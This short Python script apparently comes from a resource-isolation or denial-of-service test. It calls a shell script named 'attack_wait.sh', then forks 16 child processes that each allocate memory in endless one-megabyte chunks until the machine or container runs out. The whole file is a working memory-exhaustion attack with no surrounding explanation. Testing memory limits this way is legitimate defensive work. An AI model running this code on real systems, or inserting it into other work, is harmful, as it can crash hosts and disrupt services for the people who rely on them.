import os
import subprocess

subprocess.run(["sh", "attack_wait.sh"])
for _ in range(16):
    if os.fork() == 0:
        hoard = []
        while True:
            hoard.append(bytes([1]) * 2**20)
